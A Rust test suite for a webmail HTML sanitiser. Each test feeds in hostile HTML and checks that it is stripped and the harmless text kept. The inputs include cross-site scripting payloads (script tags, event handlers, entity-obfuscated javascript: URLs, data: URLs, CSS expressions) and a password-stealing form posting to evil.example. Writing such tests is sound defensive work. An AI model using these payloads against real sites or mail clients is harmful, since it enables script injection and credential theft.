//! The hostile corpus (issue 13 item 3; AL-1.3, AL-1.4): one case per test, each asserting that
//! the dangerous thing is gone and that the harmless text beside it survives.

use rampart_jmap_mail::email::view::{Inline, InlineImage};

use super::*;

fn cleaned(html: &str) -> Cleaned {
    clean(html, &Inline::new(), false)
}

/// The cleaned HTML, lower case, for looking for a danger whatever its case.
fn lower(c: &Cleaned) -> String {
    c.html.to_ascii_lowercase()
}

#[test]
fn webmail_hostile_script_removed() {
    let c = cleaned("<p>hello</p><script>alert(1)</script><SCRIPT src=x></SCRIPT><p>world</p>");
    assert!(!lower(&c).contains("script"), "{}", c.html);
    assert!(!c.html.contains("alert"), "{}", c.html);
    assert!(c.html.contains("<p>hello</p>") && c.html.contains("<p>world</p>"));
}

#[test]
fn webmail_hostile_img_onerror_removed() {
    let c = cleaned("<p>safe text<img src=x onerror=alert(1)></p>");
    assert!(!lower(&c).contains("onerror"), "{}", c.html);
    assert!(!c.html.contains("alert"), "{}", c.html);
    assert!(c.html.contains("safe text"));
}

#[test]
fn webmail_hostile_body_onload_removed() {
    let c = cleaned("<body onload=\"alert(1)\"><p onclick=\"alert(2)\">greetings</p></body>");
    assert!(!lower(&c).contains("onload") && !lower(&c).contains("onclick"));
    assert!(!c.html.contains("alert"), "{}", c.html);
    assert!(c.html.contains("greetings"));
}

#[test]
fn webmail_hostile_svg_onload_removed() {
    let c = cleaned("<svg onload=alert(1)><circle r=5></circle></svg><p>after svg</p>");
    assert!(!lower(&c).contains("svg>") && !lower(&c).contains("<svg"));
    assert!(!lower(&c).contains("onload") && !c.html.contains("alert"));
    assert!(c.html.contains("after svg"));
}

#[test]
fn webmail_hostile_javascript_url_removed() {
    for href in [
        "javascript:alert(1)",
        " JaVaScRiPt:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript&colon;alert(1)",
        "java\tscript:alert(1)",
        "java&#x09;script:alert(1)",
        "java\nscript:alert(1)",
        "java&NewLine;script:alert(1)",
        "vbscript:msgbox(1)",
    ] {
        let c = cleaned(&format!("<a href=\"{href}\">click here</a>"));
        let l = lower(&c);
        assert!(
            !l.contains("script") && !l.contains("href"),
            "{href}: {}",
            c.html
        );
        assert!(c.html.contains("click here"), "{href}: {}", c.html);
    }
}

#[test]
fn webmail_hostile_data_url_link_removed() {
    let c = cleaned(
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">open me</a>\
         <img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    );
    assert!(!c.html.contains("data:"), "{}", c.html);
    assert!(!c.html.contains("href"), "{}", c.html);
    assert!(c.html.contains("open me"));
}

#[test]
fn webmail_hostile_meta_refresh_removed() {
    let c = cleaned(
        "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\"><p>stay here</p>",
    );
    assert!(!lower(&c).contains("meta") && !c.html.contains("evil.example"));
    assert!(c.html.contains("stay here"));
}

#[test]
fn webmail_hostile_base_href_removed() {
    let c = cleaned(
        "<base href=\"https://evil.example/kit/\"><a href=\"https://ok.example/\">base text</a>",
    );
    assert!(!lower(&c).contains("<base") && !c.html.contains("evil.example"));
    assert!(c.html.contains("base text"));
}

#[test]
fn webmail_hostile_form_removed() {
    let c = cleaned(
        "<form action=\"https://evil.example/steal\" method=post>Password: \
         <input type=password name=p><select><option>x</option></select>\
         <textarea>t</textarea><button formaction=\"https://evil.example/b\">Send</button></form>\
         <p>kept</p>",
    );
    let l = lower(&c);
    for gone in [
        "<form",
        "<input",
        "<button",
        "<select",
        "<textarea",
        "evil.example",
    ] {
        assert!(!l.contains(gone), "{gone}: {}", c.html);
    }
    assert!(c.html.contains("Password:") && c.html.contains("<p>kept</p>"));
}

#[test]
fn webmail_hostile_css_expression_removed() {
    let c = cleaned(
        "<p style=\"color:red;width:expression(alert(1))\">styled</p>\
         <p style=\"wid\\74h:expr\\65ssion(alert(2))\">escaped</p>",
    );
    assert!(!lower(&c).contains("expression") && !c.html.contains("alert"));
    assert!(!c.html.contains('\\'), "{}", c.html);
    assert!(c.html.contains("color:red"), "{}", c.html);
    assert!(c.html.contains("styled") && c.html.contains("escaped"));
}

#[test]
fn webmail_hostile_css_url_removed() {
    let c = cleaned(
        "<p style=\"background-color:blue;background-image:url(https://evil.example/a.png)\">one</p>\
         <p style=\"border:1px solid url('https://evil.example/b.png');color:green\">two</p>\
         <p style=\"color:black;list-style-image:URL(https://evil.example/c)\">three</p>",
    );
    let l = lower(&c);
    assert!(
        !l.contains("url(") && !l.contains("evil.example"),
        "{}",
        c.html
    );
    assert!(c.html.contains("background-color:blue") && c.html.contains("color:green"));
    assert!(c.html.contains("one") && c.html.contains("two") && c.html.contains("three"));
}

#[test]
fn webmail_hostile_style_element_removed() {
    let c = cleaned(
        "<style>body{background:url(https://evil.example/x)} p{display:none}</style>\
         <p>visible</p>",
    );
    let l = lower(&c);
    assert!(!l.contains("<style") && !l.contains("evil.example") && !l.contains("display"));
    assert!(c.html.contains("<p>visible</p>"), "{}", c.html);
}

#[test]
fn webmail_hostile_svg_script_removed() {
    let c = cleaned(
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script>\
         <a xlink:href=\"javascript:alert(2)\"><text>svg text</text></a></svg><p>after</p>",
    );
    let l = lower(&c);
    assert!(!l.contains("<svg") && !l.contains("script") && !c.html.contains("alert"));
    assert!(c.html.contains("<p>after</p>"), "{}", c.html);
}

#[test]
fn webmail_hostile_object_embed_iframe_removed() {
    let c = cleaned(
        "<object data=\"https://evil.example/a.swf\">fallback</object>\
         <embed src=\"https://evil.example/b\"><iframe src=\"https://evil.example/c\"></iframe>\
         <audio src=\"https://evil.example/d.mp3\"></audio><video src=\"https://evil.example/e\">\
         </video><link rel=stylesheet href=\"https://evil.example/f.css\"><math><mi>x</mi></math>\
         <p>plain</p>",
    );
    let l = lower(&c);
    for gone in [
        "<object",
        "<embed",
        "<iframe",
        "<audio",
        "<video",
        "<link",
        "<math",
        "evil.example",
    ] {
        assert!(!l.contains(gone), "{gone}: {}", c.html);
    }
    assert!(c.html.contains("<p>plain</p>"), "{}", c.html);
}

#[test]
fn webmail_remote_tracking_pixel_blocked_and_counted() {
    let html = "<p>news</p><img src=\"https://track.example/p.gif?u=1\" width=\"1\" height=\"1\">";
    let c = clean(html, &Inline::new(), false);
    assert!(!c.html.contains("track.example"), "{}", c.html);
    assert_eq!(c.remote_blocked, 1);
    assert!(c.html.contains("<p>news</p>"));

    // The reader's choice: shown, nothing counted as blocked.
    let c = clean(html, &Inline::new(), true);
    assert!(
        c.html.contains("src=\"https://track.example/p.gif?u=1\""),
        "{}",
        c.html
    );
    assert_eq!(c.remote_blocked, 0);
}

#[test]
fn webmail_remote_srcset_background_and_protocol_relative_blocked() {
    let html = "<img src=\"//t.example/a.png\" alt=\"a\"><img srcset=\"https://t.example/b.png 2x\">\
        <table background=\"http://t.example/c.png\"><tr><td background=\"https://t.example/d.png\">\
        cell</td></tr></table><img src=\"/local.png\">";
    let c = clean(html, &Inline::new(), false);
    assert!(!c.html.contains("t.example") && !c.html.contains("local.png"));
    assert_eq!(c.remote_blocked, 4, "{}", c.html);
    assert!(c.html.contains("cell") && c.html.contains("alt=\"a\""));

    let c = clean(html, &Inline::new(), true);
    assert!(
        c.html.contains("src=\"https://t.example/a.png\""),
        "{}",
        c.html
    );
    assert!(c.html.contains("background=\"https://t.example/d.png\""));
    assert!(!c.html.contains("local.png"), "relative: our own origin");
    assert_eq!(c.remote_blocked, 0);
}

#[test]
fn webmail_hostile_fixed_overlay_style_dropped() {
    let c = cleaned(
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;\
         color:red;display:block;background:white\">Overlay text</div>",
    );
    let l = lower(&c);
    for gone in [
        "position",
        "z-index",
        "top:",
        "left:",
        "display",
        "background:",
    ] {
        assert!(!l.contains(gone), "{gone}: {}", c.html);
    }
    assert!(c.html.contains("width:100%") && c.html.contains("color:red"));
    assert!(c.html.contains("Overlay text"));
}

fn png() -> Vec<u8> {
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec()
}

#[test]
fn webmail_cid_image_becomes_data_png() {
    let mut inline = Inline::new();
    inline.insert(
        "logo@remote.test".into(),
        InlineImage {
            media_type: "image/png".into(),
            bytes: png(),
        },
    );
    let c = clean(
        "<p>see</p><img src=\"cid:logo@remote.test\" alt=\"logo\"><img src=\"cid:logo%40remote.test\">",
        &inline,
        false,
    );
    let want = format!(
        "src=\"data:image/png;base64,{}\"",
        base64::engine::general_purpose::STANDARD.encode(png())
    );
    assert_eq!(c.html.matches(&want).count(), 2, "{}", c.html);
    assert!(!c.html.contains("cid:"));
    assert_eq!(c.remote_blocked, 0);
    assert!(c.html.contains("<p>see</p>"));
}

#[test]
fn webmail_svg_cid_part_not_inlined() {
    let mut inline = Inline::new();
    inline.insert(
        "pic@remote.test".into(),
        InlineImage {
            media_type: "image/svg+xml".into(),
            bytes: b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec(),
        },
    );
    let c = clean(
        "<p>picture:</p><img src=\"cid:pic@remote.test\">",
        &inline,
        false,
    );
    assert!(
        !c.html.contains("data:") && !c.html.contains("cid:"),
        "{}",
        c.html
    );
    assert!(c.html.contains("<p>picture:</p>"));
}

#[test]
fn webmail_inline_images_bounded_however_often_named() {
    let mut inline = Inline::new();
    inline.insert(
        "big@remote.test".into(),
        InlineImage {
            media_type: "image/jpeg".into(),
            bytes: vec![0xff; 2 * 1024 * 1024],
        },
    );
    let html = "<img src=\"cid:big@remote.test\">".repeat(50);
    let c = clean(&html, &inline, false);
    assert!(c.html.len() < MAX_DATA_URI_TOTAL + 4096, "{}", c.html.len());
    assert!(c.html.contains("data:image/jpeg;base64,"));
}

#[test]
fn webmail_mismatched_link_marked() {
    let c = cleaned("<p>Dear customer, <a href=\"https://evil.example/login\">https://www.bank.example/</a> today.</p>");
    assert_eq!(c.mismatched_links, 1, "{}", c.html);
    assert!(c.html.contains("class=\"rampart-mismatch\""), "{}", c.html);
    assert!(
        c.html
            .contains("title=\"This link shows www.bank.example but leads to evil.example\""),
        "{}",
        c.html
    );
    assert!(c.html.contains("Dear customer,") && c.html.contains("today."));
}

#[test]
fn webmail_mismatched_link_marked_past_a_hidden_end_tag() {
    // An end tag written inside an attribute value does not end the anchor's text.
    let c = cleaned(
        "<a href=\"https://evil.example/\"><img alt=\"</a>\">https://www.bank.example/</a>",
    );
    assert_eq!(c.mismatched_links, 1, "{}", c.html);
    assert!(c.html.contains("rampart-mismatch"));
}

#[test]
fn webmail_mismatch_mark_not_overridden_by_the_mail() {
    // The mail's own title and class cannot replace the mark's words or hide the mark.
    let c = cleaned(
        "<a href=\"https://evil.example/\" title=\"Verified by your bank\" class=\"safe\">\
         https://www.bank.example/</a>",
    );
    assert_eq!(c.mismatched_links, 1, "{}", c.html);
    assert!(
        !c.html.contains("Verified") && !c.html.contains("safe"),
        "{}",
        c.html
    );
    assert_eq!(c.html.matches("title=").count(), 1, "{}", c.html);
    assert!(c
        .html
        .contains("title=\"This link shows www.bank.example but leads to evil.example\""));
}

#[test]
fn webmail_matching_link_not_marked() {
    let c = cleaned(
        "<a href=\"https://www.bank.example/x\">www.bank.example</a> \
         <a href=\"https://bank.example/\">Your bank</a>",
    );
    assert_eq!(c.mismatched_links, 0, "{}", c.html);
    assert!(!c.html.contains("rampart-mismatch"), "{}", c.html);
    assert!(c.html.contains("Your bank"));
}

#[test]
fn webmail_links_open_in_new_context_without_opener() {
    let c = cleaned(
        "<a href=\"https://a.example/\" target=\"_self\" rel=\"opener\">a link</a>\
         <a href=\"/jmap/session\">relative</a><a href=\"mailto:bob@example.test\">mail</a>",
    );
    assert!(
        c.html.contains(
            "<a href=\"https://a.example/\" target=\"_blank\" rel=\"noopener noreferrer\">a link</a>"
        ),
        "{}",
        c.html
    );
    assert!(!c.html.contains("_self") && !c.html.contains("\"opener\""));
    assert!(
        !c.html.contains("/jmap/session"),
        "relative: our own origin"
    );
    assert!(c.html.contains("href=\"mailto:bob@example.test\""));
    assert!(c.html.contains("relative"));
}
